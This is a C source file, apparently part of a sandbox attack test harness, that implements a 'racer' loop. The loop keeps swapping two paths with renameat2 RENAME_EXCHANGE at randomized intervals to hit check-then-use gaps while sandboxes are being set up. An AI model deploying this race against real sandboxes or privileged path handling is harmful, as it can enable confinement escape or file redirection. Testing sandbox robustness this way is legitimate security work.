/* SPDX-License-Identifier: MIT */
/* The racer: exchanges two names for as long as it lives, at a changing pace, while sandboxes start. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

/* Long at one name, short at the other, and the other way round: set-up looks at a path several times,
 * and every gap between two looks must be hit now and then. */
static void rest(unsigned *seed)
{
    struct timespec pause = { 0, 0 };

    *seed = *seed * 1103515245u + 12345u;
    pause.tv_nsec = (long)(*seed >> 16) % 8 ? 0 : (long)(*seed >> 12) % 900000;
    if (pause.tv_nsec)
        (void)nanosleep(&pause, NULL);
}

int race_main(int count, char **words)
{
    unsigned seed = (unsigned)getpid();
    int counter;

    if (count < 3)
        return 2;
    counter = open(words[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    for (unsigned long done = 1;; done++) {
        char text[32];
        int length = snprintf(text, sizeof text, "%lu\n", done);

        if (renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) < 0) {
            perror("attack: exchange");
            return 1;
        }
        if (done % 64 == 0 && pwrite(counter, text, (size_t)length, 0) < 0)
            return 1;
        rest(&seed);
    }
}
